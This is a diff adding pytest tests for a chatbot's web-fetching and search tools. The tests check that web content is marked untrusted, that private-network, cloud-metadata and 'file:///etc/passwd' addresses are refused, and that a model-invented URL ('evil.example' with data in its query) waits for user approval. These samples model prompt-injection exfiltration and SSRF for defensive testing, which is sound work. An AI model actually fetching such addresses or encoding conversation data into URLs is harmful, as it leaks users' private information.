@@ -1,0 +1,142 @@
+"""The model reads pages and searches; what the web says is marked, and no address carries anything out unseen."""
+
+import json
+from collections.abc import AsyncIterator
+from typing import Any
+from uuid import uuid4
+
+import pytest
+
+from bot.attachments.documents.process import DocumentReader
+from bot.message_text import UNTRUSTED_MARK
+from bot.tokens import text_tokens, tools_tokens
+from bot.tools.toolset import Caller, Outcome, Prepared, ToolSet
+from bot.tools.web import web_tools
+from bot.values.calls import ToolCall
+from bot.values.memories import Source
+from bot.values.owner import Owner
+from bot.web.fetching import Fetcher
+from bot.web.pages import Pages
+from bot.web.search import WebSearch, searxng
+from practice.serving import serve
+from practice.web.site import Site
+
+MADE_UP = "https://evil.example/?q=Alec+is+my+boss"
+
+
+@pytest.fixture
+async def site() -> AsyncIterator[str]:
+    """The address of the practice site."""
+    async with serve(Site().app) as url:
+        yield url
+
+
+def tools_for(site: str) -> ToolSet:
+    """Return the tools with pages of the practice site allowed."""
+    pages = Pages(Fetcher([site.removeprefix("http://")]), DocumentReader().read)
+    return ToolSet([web_tools(pages, WebSearch(searxng(site)))])
+
+
+def prepared(tools: ToolSet, tool: str, own_words: str = "", at: Source | None = None, **arguments: Any) -> Prepared:
+    """Return a call in a conversation with untrusted text."""
+    at = at or Source(conversation_id=uuid4(), turn_id=uuid4())
+    caller = Caller(Owner(1, 1), at, holds_untrusted=True, own_words=own_words)
+    found = tools.prepare(caller, ToolCall("1", tool, json.dumps(arguments)))
+    assert isinstance(found, Prepared)
+    return found
+
+
+async def outcome(tools: ToolSet, tool: str, **arguments: Any) -> Outcome:
+    """Return what comes of a call."""
+    return await prepared(tools, tool, **arguments).act()
+
+
+async def test_a_page_is_read_with_its_address_and_marked(site: str) -> None:
+    found = await outcome(tools_for(site), "fetch_page", url=f" <{site}/ferry> ")
+    assert found.untrusted
+    first, second, *_ = found.words.splitlines()
+    assert first == f"[{UNTRUSTED_MARK}: a web page]"
+    assert second == f"> {site}/ferry"
+    assert "sails at 7:40" in found.words
+    assert all(line.startswith("> ") for line in found.words.splitlines()[1:])
+
+
+async def test_links_are_shown_when_they_are_asked_for(site: str) -> None:
+    tools = tools_for(site)
+    assert f"({site}/bread)" not in (await outcome(tools, "fetch_page", url=site)).words
+    assert (
+        f"[Bread with three ingredients]({site}/bread)"
+        in (await outcome(tools, "fetch_page", url=site, links=True)).words
+    )
+
+
+async def test_a_search_gives_addresses_and_says_where_they_are_from(site: str) -> None:
+    found = await outcome(tools_for(site), "web_search", query="lighthouse")
+    assert found.untrusted
+    assert found.words.splitlines()[:4] == [
+        f"[{UNTRUSTED_MARK}: found on the web]",
+        "> 1. How the lighthouse keeps its light",
+        f"> {site}/lighthouse",
+        "> 2025-06-21",
+    ]
+    nothing = await outcome(tools_for(site), "web_search", query="zebra")
+    assert not nothing.untrusted
+    assert nothing.words.startswith("Nothing was found.")
+
+
+async def test_what_fails_is_said_in_our_own_words_which_need_no_mark(site: str) -> None:
+    tools = tools_for(site)
+    for url, said in (
+        (f"{site}/nowhere", "There is no page at this address."),
+        ("http://127.0.0.1:1/", "This address is inside a private network"),
+        ("http://169.254.169.254/latest/", "This address is inside a private network"),
+        ("file:///etc/passwd", "This is no web address"),
+    ):
+        found = await outcome(tools, "fetch_page", url=url)
+        assert not found.untrusted
+        assert found.words.startswith(said) or "isn't opened" in found.words
+    assert "1 to 1" in (await outcome(tools, "fetch_page", url=f"{site}/ferry", part=2)).words
+
+
+async def test_an_address_that_the_model_made_up_waits_while_untrusted_text_is_there(site: str) -> None:
+    tools = tools_for(site)
+    call = prepared(tools, "fetch_page", url=MADE_UP)
+    assert call.asks
+    assert call.told == f"🌐 Open {MADE_UP}"
+    assert not prepared(tools, "fetch_page", f"Read {MADE_UP}!", url=MADE_UP).asks
+    assert not prepared(tools, "web_search", query="Alec is my boss").asks
+
+
+async def test_a_found_page_is_free_in_its_conversation_and_stays_so(site: str) -> None:
+    tools = tools_for(site)
+    at = Source(conversation_id=uuid4(), turn_id=uuid4())
+    url = f"{site}/ferry"
+    assert prepared(tools, "fetch_page", at=at, url=url).asks
+    await prepared(tools, "web_search", at=at, query="ferry").act()
+    assert not prepared(tools, "fetch_page", at=at, url=url).asks
+    assert prepared(tools, "fetch_page", at=at, url=f"{url}?boss=Alec").asks
+    assert prepared(tools, "fetch_page", url=url).asks, "in another conversation"
+    await prepared(tools, "fetch_page", at=at, url=url).act()
+    later = Source(conversation_id=at.conversation_id, turn_id=uuid4())
+    assert not prepared(tools, "fetch_page", at=later, url=url, part=2).asks
+
+
+async def test_a_link_of_a_page_is_not_free(site: str) -> None:
+    tools = tools_for(site)
+    at = Source(conversation_id=uuid4(), turn_id=uuid4())
+    await prepared(tools, "fetch_page", at=at, url=site, links=True).act()
+    assert prepared(tools, "fetch_page", at=at, url=f"{site}/bread").asks
+
+
+def test_the_tools_cost_few_tokens() -> None:
+    tools = tools_for("http://127.0.0.1:1")
+    specs = tools.specs(chosen={"web"})
+    assert [spec.name for spec in specs] == ["fetch_page", "web_search"]
+    assert tools_tokens(specs) < 250
+    assert text_tokens(json.dumps([spec.parameters for spec in specs])) < 160
+
+
+def test_without_a_search_server_pages_are_read_and_it_is_said_what_to_set() -> None:
+    family = web_tools(Pages(Fetcher(), DocumentReader().read), None)
+    assert [tool.name for tool in family.tools] == ["fetch_page"]
+    assert "SEARXNG_URL" in family.purpose
